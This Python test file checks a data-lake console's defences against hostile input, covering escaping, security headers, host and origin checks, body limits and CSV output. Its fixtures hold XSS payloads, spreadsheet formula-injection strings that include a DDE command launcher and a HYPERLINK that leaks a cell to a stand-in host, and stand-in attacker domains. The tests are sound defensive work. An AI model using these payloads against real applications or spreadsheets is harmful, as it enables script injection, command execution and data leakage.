"""The console against hostile input (no Spark): file names and cell values with markup
rendered as text, the security headers, requests that address another host (DNS
rebinding) or come from another origin refused, bodies bounded while they stream,
one body per upload, CSV cells that a spreadsheet would run neutralised."""

from __future__ import annotations

import csv
import fcntl
import io
import select
import socket
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient

from lib.errors import LakeError
from lib.ledger.records import ACCEPTED, RECEIVED
from lib.ledger.sqlite import open_ledger
from lib.tools.console.app import create_app, exposure_warning, serve, serving_hosts
from lib.tools.console.security import CSRF_HEADER, content_security_policy
from tests.helpers import CONSOLE_URL, SAMPLES, serving

GOOD = SAMPLES / "orders_2026-11-01.csv"
H = {CSRF_HEADER: "1"}
BASE = CONSOLE_URL
HOSTILE_NAME = '"><img src=x onerror=alert(1)>.csv'
HOSTILE_VALUE = "<script>alert('cell')</script>"
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def upload(client: TestClient, name: str, data: bytes) -> dict:
    created = client.post("/uploads", headers=H, json={
        "dataset": "orders", "file_name": name, "size_bytes": len(data)})
    assert created.status_code == 201, created.text
    sent = client.put(created.json()["upload"]["url"], headers=H, content=data)
    assert sent.status_code == 200, sent.text
    return sent.json()


def quarantine_file(lake: Path, upload_id: str, values: list[str]) -> Path:
    """A quarantine-zone file of the upload, as a run writes it (the columns the pages
    read), holding ``values`` as raw order ids."""
    folder = lake / "quarantine" / "orders" / "ingest_date=2026-11-21"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{upload_id}_20261121T120000Z-abcdef_0.c000.snappy.parquet"
    pq.write_table(pa.table({
        "order_id": values,
        "_errors": [["order_id.pattern"]] * len(values),
        "_source_record": list(range(1, len(values) + 1)),
    }), path)
    return path


def test_a_hostile_file_name_is_shown_as_text_on_every_page(client) -> None:
    record = upload(client, HOSTILE_NAME, GOOD.read_bytes())
    assert record["status"] == ACCEPTED
    escaped = "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;.csv"
    for page in (client.get("/ui/uploads").text,
                 client.get(f"/ui/uploads/{record['upload_id']}").text):
        assert escaped in page
        assert "<img" not in page and "onerror=alert(1)>" not in page


def test_hostile_cell_values_and_query_parameters_are_shown_as_text(client, lake) -> None:
    record = upload(client, "orders.csv", GOOD.read_bytes())
    quarantine_file(lake, record["upload_id"], [HOSTILE_VALUE])
    page = client.get(f"/ui/uploads/{record['upload_id']}").text
    assert "&lt;script&gt;alert(&#39;cell&#39;)&lt;/script&gt;" in page
    assert "<script>alert" not in page
    listing = client.get("/ui/uploads", params={"dataset": '"><script>alert(2)</script>'}).text
    assert "<script>alert" not in listing


def test_every_answer_carries_the_security_headers(client) -> None:
    for path in ("/", "/ui/uploads", "/static/console.js", "/uploads", "/nope"):
        answer = client.get(path)
        policy = answer.headers["content-security-policy"]
        assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split(
            "script-src")[1].split(";")[0]
        assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
    assert "frame-ancestors 'self'" in content_security_policy("/reports/orders/r1")
    page = client.get("/").text
    assert "onsubmit" not in page and "<script>" not in page and " style=" not in page


def test_a_request_for_another_host_is_refused_dns_rebinding(client, lake) -> None:
    rebound = {"Host": "rebind.attacker.example", "Origin": "http://rebind.attacker.example"}
    run = client.post("/datasets/orders/runs", headers={**H, **rebound})
    assert run.status_code == 421 and run.json()["error"] == "request.host"
    assert "rebind.attacker.example" in run.json()["message"]
    assert "--allow-host" in run.json()["message"]
    assert client.get("/uploads", headers=rebound).status_code == 421
    assert client.get("/", headers={"Host": "localhost:8000"}).status_code == 200
    assert client.get("/", headers={"Host": "[::1]:8000"}).status_code == 200
    allowed = TestClient(create_app(lake, allowed_hosts=("127.0.0.1", "lake.internal"), fast_lane=False),
                         base_url="http://lake.internal")
    assert allowed.get("/").status_code == 200
    assert allowed.get("/", headers={"Host": "localhost"}).status_code == 421


def test_a_change_from_a_foreign_origin_is_refused(client) -> None:
    foreign = client.post("/uploads", headers={**H, "Origin": "http://evil.example"}, json={
        "dataset": "orders", "file_name": "a.csv", "size_bytes": 10})
    assert foreign.status_code == 403 and foreign.json()["error"] == "request.cross_site"
    assert "evil.example" in foreign.json()["message"]
    own = client.post("/uploads", headers={**H, "Origin": "http://127.0.0.1:8000"}, json={
        "dataset": "orders", "file_name": "a.csv", "size_bytes": 10})
    assert own.status_code == 201


@pytest.fixture
def server(lake):  # noqa: ANN201 - a real server: the test client buffers a body whole
    with serving(create_app(lake, fast_lane=False)) as port:
        yield port


def test_a_chunked_json_body_is_cut_off_at_the_limit(server, lake) -> None:
    chunk = b" " * 65_536
    sent, answer = 0, b""
    with socket.create_connection(("127.0.0.1", server), timeout=10) as sock:
        sock.sendall(b"POST /uploads HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Lake-Console: 1\r\n"
                     b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
        try:
            while sent < 1024 ** 3:  # 1 GiB of JSON if the server kept reading
                if select.select([sock], [], [], 0)[0]:
                    break  # the server answered before the body ended
                sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass  # it closed the connection after answering
        while not answer.endswith(b"}"):
            more = sock.recv(65_536)
            if not more:
                break
            answer += more
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert b'"error":"request.too_large"' in answer and b"65536 bytes" in answer
    assert sent < 16 * 1024 ** 2, f"{sent} bytes sent before the server refused the body"
    assert open_ledger(lake).find() == []


def test_a_declared_body_over_the_limit_is_refused_unread(client) -> None:
    lying = client.post("/uploads", headers={**H, "Content-Length": "abc"}, content=b"{}")
    assert lying.status_code == 413 and lying.json()["error"] == "request.too_large"
    huge = client.post("/uploads", headers=H, content=b"{" + b" " * 70_000 + b"}")
    assert huge.status_code == 413


def test_a_second_body_for_the_same_upload_is_refused(client, lake) -> None:
    created = client.post("/uploads", headers=H, json={
        "dataset": "orders", "file_name": "orders.csv", "size_bytes": GOOD.stat().st_size})
    body = created.json()
    part = lake / "_console" / "incoming" / body["upload_id"] / body["stored_name"]
    part.parent.mkdir(parents=True)
    with part.open("ab") as first:  # a request is sending this upload's bytes
        first.write(b"order_id,half of the first body")
        first.flush()
        fcntl.flock(first, fcntl.LOCK_EX)
        second = client.put(body["upload"]["url"], headers=H, content=b"another body\n")
        assert second.status_code == 409 and second.json()["error"] == "upload.receiving"
        assert part.read_bytes() == b"order_id,half of the first body"  # untouched
        assert open_ledger(lake).get(body["upload_id"]).status == RECEIVED
    done = client.put(body["upload"]["url"], headers=H, content=GOOD.read_bytes())
    assert done.status_code == 200 and done.json()["status"] == ACCEPTED
    landed = open_ledger(lake).get(body["upload_id"])
    assert Path(landed.location.removeprefix("file://")).read_bytes() == GOOD.read_bytes()
    again = client.put(body["upload"]["url"], headers=H, content=b"x")
    assert again.status_code == 409 and again.json()["error"] == "upload.not_receiving"


def test_the_quarantine_csv_is_safe_to_open_in_a_spreadsheet(client, lake) -> None:
    record = upload(client, "orders.csv", GOOD.read_bytes())
    quarantine_file(lake, record["upload_id"], [*FORMULAS, "plain", "O-1"])
    got = client.get(f"/uploads/{record['upload_id']}/quarantine.csv")
    table = list(csv.DictReader(io.StringIO(got.text)))
    assert [r["order_id"] for r in table] == ["'" + f for f in FORMULAS] + ["plain", "O-1"]
    assert [r["_source_record"] for r in table][:2] == ["1", "2"]


def test_binding_beyond_loopback_needs_expose_and_says_what_it_exposes(tmp_path) -> None:
    with pytest.raises(LakeError, match="--expose") as refused:
        serve(tmp_path, host="0.0.0.0", port=1)
    assert refused.value.code == "serve.exposed"
    assert "every network interface" in exposure_warning("0.0.0.0")
    assert "no login" in exposure_warning("192.0.2.7")
    assert exposure_warning("127.0.0.1") is None and exposure_warning("::1") is None
    assert serving_hosts("127.0.0.1") == ("127.0.0.1", "localhost", "::1")
    assert serving_hosts("192.0.2.7", ["lake.example"]) == ("192.0.2.7", "lake.example")
    assert serving_hosts("0.0.0.0", ["10.0.0.5"]) == (
        "127.0.0.1", "localhost", "::1", socket.gethostname(), "10.0.0.5")


def test_the_api_pages_load_nothing_from_a_cdn(client) -> None:
    assert client.get("/docs").status_code == 404  # FastAPI's page loads a CDN script
    assert client.get("/redoc").status_code == 404
    assert client.get("/openapi.json").json()["info"]["title"] == "lake console"
